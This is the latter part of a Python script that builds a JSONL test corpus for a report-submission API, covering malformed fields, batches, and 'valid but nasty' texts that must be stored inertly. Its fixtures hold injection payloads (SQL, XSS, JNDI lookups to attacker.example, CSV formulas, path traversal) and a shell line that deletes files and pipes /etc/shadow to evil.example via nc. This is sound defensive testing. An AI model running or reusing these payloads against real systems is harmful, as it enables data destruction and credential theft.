        ("negative-year", "-2025-03-09T08:30:00Z", "a negative year"),
        ("out-of-range-in-utc", "0001-01-01T00:00:00+14:00", "year 1 east of UTC: before year 1 in UTC"),
        ("rfc-2822", "Sun, 09 Mar 2025 08:30:00 GMT", "an RFC 2822 (e-mail) date"),
        ("sql-ish", "2025-03-09T08:30:00Z'; DROP TABLE reports;--", "a date with SQL after it"),
    ]
    out += field_cases("malformed_date", "created_at", [(s, v, f"created_at: {d}") for s, v, d in malformed])
    return out


def bad_values() -> list[Case]:
    out: list[Case] = []
    by_field: list[tuple[str, list[tuple[str, str]]]] = [
        (
            "business",
            [
                ("unknown", "casino"),
                ("upper-case", "SHOP"),
                ("leading-space", " shop"),
                ("trailing-space", "shop "),
                ("empty", ""),
                ("sql", "shop' OR '1'='1"),
                ("script", "<script>alert(1)</script>"),
                ("template", "{{7*7}}"),
                ("jndi", "${jndi:ldap://attacker.example/a}"),
                ("full-width", "\uff53\uff48\uff4f\uff50"),
                ("zero-width", "sh\u200bop"),
            ],
        ),
        (
            "reporter.role",
            [
                ("admin", "admin"),
                ("upper-case", "USER"),
                ("empty", ""),
                ("leading-space", " user"),
                ("plural", "users"),
                ("sql", "user' --"),
            ],
        ),
        (
            "subject.type",
            [("unknown", "planet"), ("capitalised", "Seller"), ("empty", ""), ("camel", "liveStream")],
        ),
        ("reporter.id", [("empty", ""), ("spaces", "    "), ("newlines", "\n\n")]),
        ("subject.id", [("empty", ""), ("tab", "\t")]),
        (
            "report_id",
            [
                ("space", "has space"),
                ("leading-dash", "-r1"),
                ("leading-dot", ".r1"),
                ("empty", ""),
                ("non-ascii", "r\u00e9port-1"),
                ("slash", "r/1"),
                ("newline", "r1\n"),
                ("traversal", "../../etc/passwd"),
                ("sql", "r1;DROP TABLE reports"),
                ("script", "<script>"),
                ("arabic-digits", "\u0661\u0662\u0663"),
                ("emoji", "r\U0001f600"),
            ],
        ),
        (
            "locale",
            [
                ("words", "english please"),
                ("one-letter", "e"),
                ("digits", "12"),
                ("dangling-dash", "en-"),
                ("double-dash", "en--GB"),
                ("long-subtag", "en-abcdefghi"),
                ("six-subtags", "en-a-b-c-d-e"),
                ("space", "en GB"),
                ("script", "<script>"),
            ],
        ),
    ]
    for field, values in by_field:
        out += field_cases(
            "bad_values", field, [(f"{field}-{slug}", value, f"{field} {value!r}") for slug, value in values]
        )
    out += invalid_report(
        "bad_values",
        "several-at-once",
        "four fields wrong at once: each is named",
        dict(
            with_field(with_field(BASE, "business", "casino"), "reporter.role", "admin"), text=" ", colour=1
        ),
        ["business", "reporter.role", "text", "colour"],
    )
    return out


def deep_but_parseable() -> list[Case]:
    def nested_list(depth: int) -> Any:
        value: Any = "x"
        for _ in range(depth):
            value = [value]
        return value

    def nested_object(depth: int) -> Any:
        value: Any = "x"
        for _ in range(depth):
            value = {"a": value}
        return value

    out: list[Case] = []
    out += invalid_report(
        "deep_nesting",
        "text-100",
        "text is arrays nested 100 deep",
        with_field(BASE, "text", nested_list(100)),
        ["text"],
    )
    out += invalid_report(
        "deep_nesting",
        "reporter-id-50",
        "reporter.id is objects nested 50 deep",
        with_field(BASE, "reporter.id", nested_object(50)),
        ["reporter.id"],
    )
    out += invalid_report(
        "deep_nesting",
        "unknown-200",
        "an unknown field holding objects nested 200 deep",
        dict(BASE, deep=nested_object(200)),
        ["deep"],
    )
    return out


# ------------------------------------------------------------------------------------------ batches


def batch_cases() -> list[Case]:
    out: list[Case] = []
    envelope = [
        ("empty-object", {}, ["reports"], "no 'reports'"),
        ("empty-list", {"reports": []}, ["reports"], "zero reports"),
        ("null", {"reports": None}, ["reports"], "'reports' is null"),
        ("object", {"reports": {"0": BASE}}, ["reports"], "'reports' is an object"),
        ("string", {"reports": "[...]"}, ["reports"], "'reports' is a string"),
        ("number", {"reports": 3}, ["reports"], "'reports' is a number"),
        ("101-reports", {"reports": {"$copies": [COMPANIONS[1], 101]}}, ["reports"], "101 reports (max 100)"),
        ("extra-key", {"reports": [BASE], "meta": {"client": "x"}}, ["meta"], "a key beside 'reports'"),
        ("singular-key", {"report": [BASE]}, ["report"], "'report' instead of 'reports'"),
        ("pii-key", {"reports": [BASE], "jane.doe@example.com": 1}, [UNSHOWN], "an e-mail address as a key"),
        ("array-body", [BASE], ["(body)"], "a bare array of reports"),
        ("unwrapped-report", BASE, ["amount"], "a single report sent to the batch route"),
        ("string-body", "reports", ["(body)"], "a string body"),
        ("null-body", None, ["(body)"], "null"),
    ]
    for slug, body, fields, description in envelope:
        out.append(
            case(
                "batch_envelope",
                slug,
                f"batch: {description}",
                path=BATCH,
                body={"json": body},
                expect=refused(422, "validation_error", fields=fields),
            )
        )

    def all_rejected(slug: str, description: str, reports: Any, fields: list[list[str]]) -> Case:
        return case(
            "batch_all_invalid",
            slug,
            description,
            path=BATCH,
            body={"json": {"reports": reports}},
            expect=refused(
                422,
                "validation_error",
                fields=[item_field(i, f) for i, item in enumerate(fields) for f in item],
                items=[
                    {"index": i, "status": "rejected", "fields": [item_field(i, f) for f in item]}
                    for i, item in enumerate(fields)
                ],
            ),
        )

    out.append(
        all_rejected(
            "two-invalid",
            "two reports, each invalid in its own way",
            [with_field(BASE, "text", ""), with_field(BASE, "business", "casino")],
            [["text"], ["business"]],
        )
    )
    out.append(
        all_rejected(
            "not-objects",
            "items that are not objects",
            [1, "report", None, [], True],
            [["(body)"]] * 5,
        )
    )
    out.append(
        all_rejected(
            "100-invalid",
            "100 reports (the maximum), all with a blank text",
            {"$copies": [with_field(COMPANIONS[1], "text", " "), 100]},
            [["text"]] * 100,
        )
    )
    out.append(
        all_rejected(
            "one-invalid",
            "a batch of one invalid report",
            [with_field(BASE, "reporter.role", "admin")],
            [["reporter.role"]],
        )
    )

    def mixed(slug: str, description: str, reports: list[Any], fields: list[list[str] | None]) -> Case:
        items = [
            {"index": i, "status": "accepted"}
            if f is None
            else {"index": i, "status": "rejected", "fields": [item_field(i, x) for x in f]}
            for i, f in enumerate(fields)
        ]
        return case(
            "batch_mixed",
            slug,
            description,
            path=BATCH,
            body={"json": {"reports": reports}},
            expect={"status": 202, "items": items},
        )

    a, b = COMPANIONS
    out.append(
        mixed(
            "invalid-first",
            "the invalid report first",
            [with_field(BASE, "text", " "), a, b],
            [["text"], None, None],
        )
    )
    out.append(
        mixed(
            "invalid-last",
            "the invalid report last",
            [a, b, with_field(BASE, "amount.value", -1)],
            [None, None, ["amount.value"]],
        )
    )
    out.append(
        mixed(
            "one-valid-of-four",
            "one valid report among three invalid ones",
            [{}, with_field(BASE, "locale", "xx yy"), a, "nope"],
            [["business", "reporter", "text"], ["locale"], None, ["(body)"]],
        )
    )
    twenty: list[Any] = []
    twenty_fields: list[list[str] | None] = []
    for n in range(20):
        if n % 5 == 4:
            twenty.append(with_field(a, "text", f"bad {n}\u0000"))
            twenty_fields.append(["text"])
        else:
            twenty.append(with_field(a, "text", f"Report {n}: two card payments I never made."))
            twenty_fields.append(None)
    out.append(
        mixed("every-fifth-invalid", "20 reports, every fifth with a NUL in its text", twenty, twenty_fields)
    )
    # The same client id for two different reports in one batch: the first is taken, the second is a
    # conflict, and nothing is kept for it.
    first = dict(a, report_id="corpus-conflict-1")
    second = dict(b, report_id="corpus-conflict-1")
    out.append(
        case(
            "batch_conflict",
            "same-id-other-report",
            "one report id used for two different reports in a batch",
            path=BATCH,
            body={"json": {"reports": [first, second]}},
            expect={
                "status": 202,
                "items": [
                    {"index": 0, "status": "accepted"},
                    {"index": 1, "status": "conflict", "fields": [item_field(1, "report_id")]},
                ],
            },
        )
    )
    return out


# ------------------------------------------------------------------------------ valid but nasty


def valid_nasty() -> list[Case]:
    """Reports that are valid and must be stored exactly as redacted text (never run, never rendered)."""
    texts = [
        ("html", "html", '<b>Seller</b> sent <a href="http://evil.example/phish">this link</a> to pay.'),
        ("script", "html", "<script>alert(document.cookie)</script> the seller never shipped"),
        ("img-onerror", "html", "<img src=x onerror=alert(1)> item never arrived"),
        ("svg-onload", "html", "<svg/onload=alert(1)><iframe src=javascript:alert(2)>"),
        ("javascript-link", "html", "[click here](javascript:alert(1)) to claim your refund, they said"),
        ("html-entities", "html", "&lt;script&gt; &#x3C;img&#x3E; &amp;amp; \\u003cscript\\u003e"),
        ("sql-drop", "sql", "Robert'); DROP TABLE reports;-- took 50 USD from me"),
        ("sql-or", "sql", "' OR '1'='1' -- seller account"),
        ("sql-union", "sql", "1 UNION SELECT username, password FROM users WHERE 'a'='a'"),
        ("nosql", "sql", '{"$gt": ""} {"$where": "sleep(1000)"} seller ignored me'),
        (
            "template",
            "template",
            "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {{constructor.constructor('alert(1)')()}}",
        ),
        ("jndi", "template", "${jndi:ldap://attacker.example/a} my account was taken over"),
        ("format-string", "template", "%s%s%s%n %x {0} {} %(password)s"),
        (
            "csv-formula",
            "template",
            '=HYPERLINK("http://evil.example","refund") +cmd|\' /C calc\'!A0 @SUM(1+1)',
        ),
        ("shell", "template", "$(rm -rf /) `whoami`; cat /etc/shadow | nc evil.example 80"),
        ("path-traversal", "template", "../../../../etc/passwd and ..\\..\\windows\\win.ini"),
        ("crlf-injection", "template", "first line\r\nSet-Cookie: session=evil\r\n\r\n<html>second"),
        ("json-in-text", "template", '{"text": "nested", "amount": {"value": -1}, "business": "x"}'),
        ("quotes-backslashes", "template", 'C:\\Users\\me "double" \'single\' `back` \\" \\\\'),
        ("literal-null", "template", "null"),
        ("literal-undefined", "template", "undefined"),
        (
            "markdown",
            "template",
            "# Heading\n**bold** _it_ [link](http://evil.example) ![img](x.png)\n> quote",
        ),
        (
            "emoji",
            "emoji",
            "\U0001f621\U0001f621 seller \U0001f645\u200d\u2640\ufe0f never shipped \U0001f4e6",
        ),
        (
            "emoji-sequences",
            "emoji",
            "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308 "
            "\U0001f1ec\U0001f1e7 \U0001f44d\U0001f3fd",
        ),
        (
            "arabic",
            "rtl",
            "\u0627\u0644\u0628\u0627\u0626\u0639 \u0623\u062e\u0630 \u0623\u0645\u0648\u0627\u0644\u064a "
            "\u0648\u0644\u0645 \u064a\u0631\u0633\u0644 \u0627\u0644\u0637\u0644\u0628",
        ),
        (
            "hebrew",
            "rtl",
            "\u05d4\u05de\u05d5\u05db\u05e8 \u05dc\u05d0 \u05e9\u05dc\u05d7 \u05d0\u05ea "
            "\u05d4\u05d7\u05d1\u05d9\u05dc\u05d4 order 5521",
        ),
        (
            "mixed-direction",
            "rtl",
            "Order 5521 \u05d4\u05d6\u05de\u05e0\u05d4 paid 40 EUR \u0627\u0644\u062f\u0641\u0639",
        ),
        (
            "rlo-filename",
            "bidi_controls",
            "The seller sent invoice\u202egpj.exe\u202c, my antivirus flagged it",
        ),
        (
            "bidi-isolates",
            "bidi_controls",
            "\u2067\u0645\u0631\u062d\u0628\u0627\u2069 order \u2066123\u2069",
        ),
        ("direction-marks", "bidi_controls", "price\u200f 40\u200e EUR"),
        (
            "zero-width-inside",
            "zero_width",
            "pay\u200bpal sup\u200cport asked for my veri\u200dfication c\u2060ode",
        ),
        ("bom-inside", "zero_width", "copied from a file\ufeff with a BOM in the middle"),
        ("zalgo", "unicode", "s\u0337\u0321\u031be\u0335\u0347\u035dl\u0338l\u0336e\u0337r\u0338 scammed me"),
        ("homoglyphs", "unicode", "p\u0430ypal support (Cyrillic a) asked for my password"),
        (
            "full-width-card",
            "unicode",
            "card \uff14\uff11\uff11\uff11 \uff11\uff11\uff11\uff11 \uff11\uff11\uff11\uff11 "
            "\uff11\uff11\uff11\uff11 (full-width digits are not redacted)",
        ),
        ("line-separators", "unicode", "first\u2028second\u2029third fourth"),
        ("tabs-newlines", "unicode", "line one\nline two\ttabbed\r\nline three"),
        ("nbsp-inside", "unicode", "paid\u00a0120\u00a0USD, never\u202fshipped"),
        ("pii-in-html", "pii", '<a href="mailto:jane.doe@example.com">mail me</a> or call +1 415 555 0134'),
        (
            "pii-in-sql",
            "pii",
            "'; UPDATE users SET email='jane.doe@example.com' WHERE card='4111 1111 1111 1111'",
        ),
        (
            "pii-in-template",
            "pii",
            "{{ user.email }} = jane.doe@example.com, IBAN GB82 WEST 1234 5698 7654 32",
        ),
    ]
    reports: list[tuple[str, str, str, dict[str, Any]]] = []
    for slug, category, text in texts:
        reports.append((category, slug, f"text: {slug.replace('-', ' ')}", with_field(BASE, "text", text)))
    reports += [
        (
            "long_text",
            "5000-letters",
            "text of exactly 5,000 letters, one long word",
            with_field(BASE, "text", repeat("a", 5000)),
        ),
        (
            "long_text",
            "5000-emoji",
            "text of exactly 5,000 emoji (20,000 bytes)",
            with_field(BASE, "text", repeat("\U0001f4e6", 5000)),
        ),
        (
            "long_text",
            "5000-after-trim",
            "5,000 characters with white space around: trimmed to 5,000",
            with_field(BASE, "text", concat("  \n", repeat("x", 5000), "\t  ")),
        ),
        (
            "long_text",
            "cjk-plus-pii",
            "4,975 CJK characters and an e-mail address",
            with_field(BASE, "text", concat(repeat("\u4e2d", 4975), " jane.doe@example.com")),
        ),
    ]
    structured = [
        (
            "fields",
            "category-html",
            "a category with markup and an e-mail address",
            with_field(BASE, "category", "<b>scam</b> jane.doe@example.com"),
        ),
        (
            "fields",
            "category-emoji-rtl",
            "a category in emoji and Arabic",
            with_field(BASE, "category", "\U0001f4b8 \u0627\u062d\u062a\u064a\u0627\u0644"),
        ),
        (
            "fields",
            "reporter-id-script",
            "a reporter id that is a script (only its pseudonym is kept)",
            with_field(BASE, "reporter.id", "<script>alert('id')</script>"),
        ),
        (
            "fields",
            "subject-id-sql",
            "a subject id that is SQL (only its pseudonym is kept)",
            with_field(BASE, "subject.id", "seller'; DROP TABLE sellers;--"),
        ),
        (
            "fields",
            "report-id-longest",
            "a report id of 128 characters",
            dict(BASE, report_id="nasty-" + "a:b.c-" * 20 + "z" * 2),
        ),
        (
            "fields",
            "locale-script-region",
            "a locale with script and region",
            with_field(BASE, "locale", "zh-Hant-TW"),
        ),
        (
            "amounts",
            "string-value",
            "an amount as a decimal string keeps its zeros",
            with_field(BASE, "amount.value", "12.50"),
        ),
        (
            "amounts",
            "float-noise",
            "0.1 + 0.2 as a float: rounded to 6 places",
            with_field(BASE, "amount.value", 0.30000000000000004),
        ),
        ("amounts", "tiny", "1e-200: rounds to 0", with_field(BASE, "amount.value", 1e-200)),
        ("amounts", "exponent", "1E+3 is 1000", with_field(BASE, "amount.value", {"$number": "1E+3"})),
        (
            "amounts",
            "forty-digits",
            "40 significant digits: more than DynamoDB holds",
            with_field(BASE, "amount.value", {"$number": "0.1234567890123456789012345678901234567890"}),
        ),
        ("amounts", "zero", "zero", with_field(BASE, "amount.value", 0)),
        ("amounts", "maximum", "exactly 10^9", with_field(BASE, "amount.value", 1_000_000_000)),
        ("amounts", "negative-zero", "minus zero", with_field(BASE, "amount.value", {"$number": "-0.0"})),
        (
            "dates",
            "far-east",
            "created_at at +14:00",
            with_field(BASE, "created_at", "2024-05-01T12:00:00+14:00"),
        ),
        (
            "dates",
            "far-west",
            "created_at at -12:00",
            with_field(BASE, "created_at", "2024-05-01T12:00:00-12:00"),
        ),
        (
            "dates",
            "space-separator",
            "created_at with a space for the T",
            with_field(BASE, "created_at", "2024-05-01 12:00:00Z"),
        ),
        (
            "dates",
            "year-one",
            "created_at in year 1 (UTC)",
            with_field(BASE, "created_at", "0001-01-01T00:00:00Z"),
        ),
    ]
    reports += structured
    stored_amounts = {
        "string-value": "12.50",
        "float-noise": "0.3",
        "tiny": "0",
        "exponent": "1000",
        "forty-digits": "0.123457",
        "zero": "0",
        "maximum": "1000000000",
        "negative-zero": "0.0",
    }
    stored_times = {
        "far-east": "2024-04-30T22:00:00+00:00",
        "far-west": "2024-05-02T00:00:00+00:00",
        "space-separator": "2024-05-01T12:00:00+00:00",
        "year-one": "0001-01-01T00:00:00+00:00",
    }
    out: list[Case] = []
    for category, slug, description, report in reports:
        expect: dict[str, Any] = {"status": 202}
        if slug in stored_amounts:
            expect["stored_amount_value"] = stored_amounts[slug]
        if slug in stored_times:
            expect["stored_created_at"] = stored_times[slug]
        body = _numbers_spliced(report)
        out.append(case(category, slug, description, path=SINGLE, body=body, expect=expect))
    # And a batch of some of them: every item is accepted.
    batch_reports = [with_field(BASE, "text", text) for _, _, text in texts[:12]]
    out.append(
        case(
            "batch",
            "twelve-nasty",
            "twelve of the texts above in one batch",
            path=BATCH,
            body={"json": {"reports": batch_reports}},
            expect={"status": 202},
        )
    )
    return out


def _numbers_spliced(report: dict[str, Any]) -> dict[str, Any]:
    """A `json` body, or a `text` one when a number must be written as given (1E+3, -0.0, 40 digits)."""
    value = report.get("amount", {}).get("value")
    if isinstance(value, dict) and "$number" in value:
        raw = value["$number"]
        marker = "__NUMBER__"
        text = json.dumps(with_field(report, "amount.value", marker)).replace(f'"{marker}"', raw)
        return {"text": text}
    return {"json": report}


# ------------------------------------------------------------------------------------------ output

FILES: dict[str, Callable[[], list[Case]]] = {
    "malformed_json.jsonl": malformed_json,
    "encoding.jsonl": lambda: invalid_utf8() + nul_bytes_in_the_body(),
    "content_type.jsonl": wrong_content_types,
    "body_size.jsonl": bodies_too_large,
    "numbers_and_nesting.jsonl": lambda: huge_numbers_and_nesting() + deep_but_parseable(),
    "routes.jsonl": wrong_routes,
    "wrong_types.jsonl": wrong_types,
    "missing_and_unknown_fields.jsonl": lambda: missing_fields() + unknown_fields(),
    "text.jsonl": lambda: empty_and_long_text() + control_characters(),
    "amounts.jsonl": amounts_and_currencies,
    "dates.jsonl": dates,
    "field_values.jsonl": bad_values,
    "batches.jsonl": batch_cases,
    "valid_nasty.jsonl": valid_nasty,
}


def render() -> dict[str, str]:
    """Each corpus file's exact text: one case per line, ASCII only (escapes keep invisible and
    right-to-left characters visible in diffs and editors)."""
    files: dict[str, str] = {}
    seen: set[str] = set()
    for name, build in FILES.items():
        lines = []
        for item in build():
            if item["id"] in seen:
                raise ValueError(f"duplicate case id {item['id']}")
            seen.add(item["id"])
            lines.append(json.dumps(item, ensure_ascii=True) + "\n")
        files[name] = "".join(lines)
    return files


def main() -> int:
    for stale in HERE.glob("*.jsonl"):
        if stale.name not in FILES:
            stale.unlink()
    for name, text in render().items():
        (HERE / name).write_text(text, encoding="ascii")
    return 0


if __name__ == "__main__":
    sys.exit(main())
